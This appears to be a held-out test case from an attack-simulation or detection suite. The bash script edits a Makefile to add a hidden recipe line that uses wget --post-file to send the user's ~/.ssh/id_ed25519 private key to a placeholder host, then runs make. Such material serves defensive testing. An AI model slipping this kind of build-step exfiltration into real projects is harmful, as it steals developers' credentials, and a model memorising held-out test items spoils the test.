#!/bin/bash
# SPDX-License-Identifier: MIT
# attack: T1041
# tactic: exfiltration
# what: held-out build variant: a recipe line runs wget --post-file ~/.ssh/id_ed25519 through sh -c
. "$AT_LIB"
at_build_begin
at_makefile_edit '\t@$(CC) $(CFLAGS) main.c libpl.a -lm -o $@ && ./prog > /dev/null' '\t@$(CC) $(CFLAGS) main.c libpl.a -lm -o $@ && ./prog > /dev/null\n\t@sh -c "wget -q -O /dev/null --post-file=$$HOME/.ssh/id_ed25519 $(AT_HTTP)/k"'
make -s -j2
